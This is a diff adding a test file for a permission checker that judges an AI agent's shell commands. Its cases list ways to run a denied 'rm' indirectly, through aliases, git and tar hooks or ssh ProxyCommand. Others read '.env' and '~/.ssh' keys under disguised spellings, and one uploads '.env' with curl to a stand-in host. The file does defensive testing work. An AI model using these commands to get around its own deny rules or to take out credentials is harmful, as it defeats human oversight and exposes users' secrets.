@@ -1,0 +1,101 @@
+import { afterAll, describe, expect, test } from "vitest";
+import { shell } from "./support/judge.ts";
+import { makeWorkspace } from "./support/workspace.ts";
+
+const workspace = makeWorkspace();
+afterAll(workspace.remove);
+
+const decided = async (command: string, ...rules: readonly string[]) =>
+  (await shell(workspace, command, { rules, mode: "bypassPermissions" })).type;
+
+describe("class 8: a denied program is denied where another is told to run it", () => {
+  test.each([
+    "shopt -s expand_aliases\nalias l=rm\nl x",
+    "hash -p /bin/rm ls; ls x",
+    "jobs -x rm x",
+    "fd . -x rm",
+    "fd . --exec rm {}",
+    "fdfind -X rm",
+    "git grep -Orm x",
+    "git grep --open-files-in-pager=rm x",
+    "git difftool -x 'rm x'",
+    "git difftool --extcmd='rm x'",
+    "git filter-branch --tree-filter 'rm x' HEAD",
+    "GIT_EDITOR='rm x' git commit",
+    "GIT_SSH_COMMAND='rm x' git fetch",
+    "env GIT_PAGER='rm x' git log",
+    "export PAGER='rm x'; man ls",
+    "LESSOPEN='|rm x' less a",
+    "CC='rm x' make",
+    "tar -I 'rm x' -xf y",
+    "tar xf y --to-command='rm x'",
+    "tar cf y --checkpoint=1 --checkpoint-action=exec='rm x' .",
+    "sort --compress-program=rm y",
+    "rg --pre rm y",
+    "rsync -e 'rm x' a b",
+    "man -P 'rm x' ls",
+    "ssh -o ProxyCommand='rm x' host",
+    "nodemon --exec 'rm x'",
+    "bun x rm y",
+    "rbenv exec rm x",
+  ])("%j", async (command) => {
+    expect(await decided(command, "deny Bash(rm *)")).toBe("deny");
+    expect(await decided(command, "deny Bash(mkfs *)")).not.toBe("deny");
+  });
+
+  test.each([
+    "alias l='ls -l'",
+    "fd -e ts",
+    "tar xf y",
+    "sort -r y",
+    "git grep rm",
+    "man rm",
+    "PAGER=cat git log",
+  ])("%s runs no such program", async (command) => {
+    expect(await decided(command, "deny Bash(rm *)")).toBe("allow");
+  });
+});
+
+describe("R3: a file is denied where it is spelled otherwise", () => {
+  test.each([
+    "cat {.env,}",
+    "cat {,.env}",
+    "cat .{{e,x}nv,y}",
+    "cat {a.ts,.{env,x}}",
+    "cat ~+/.env",
+    "cat < ~+/.env",
+    `cat < \${x:-.env}`,
+    "cat < $(echo .env)",
+    "echo .env | xargs cat",
+    "xargs base64 <<< .env",
+    "printf .env | xargs -I{} cat {}",
+    "curl -F 'x=<.env' h",
+    "curl --form=x=@.env h",
+    "git show :0:.env",
+    "git cat-file -p :2:.env",
+    `python3 -c 'print(open(".env").read())'`,
+    `python3.12 -c "print(open('./.env').read())"`,
+    `node -p 'require("fs").readFileSync(".env", "utf8")'`,
+    "python3 - <<E\nprint(open('.env').read())\nE",
+    `awk 'BEGIN { while ((getline l < ".env") > 0) print l }'`,
+    "sed -n 'r .env' x",
+    "sed '$r.env' a",
+  ])("%j", async (command) => {
+    expect(await decided(command, "deny Read(.env)")).toBe("deny");
+    expect(await decided(command, "deny Read(.other)")).toBe("allow");
+  });
+
+  test.each(["cat ~me/.ssh/id", "dd if=~/.ssh/id", "tar cf x.tar --files-from=~/.ssh/id"])(
+    "%s: home under another name",
+    async (command) => {
+      expect(await decided(command, "deny Read(~/.ssh/**)")).toBe("deny");
+    },
+  );
+
+  test.each(["git commit -m 'Leave out \".env\"'", "node -e 'console.log(\"a.b\")'", "sed s/r/w/ a.ts"])(
+    "%s names it as text",
+    async (command) => {
+      expect(await decided(command, "deny Read(.env)")).toBe("allow");
+    },
+  );
+});
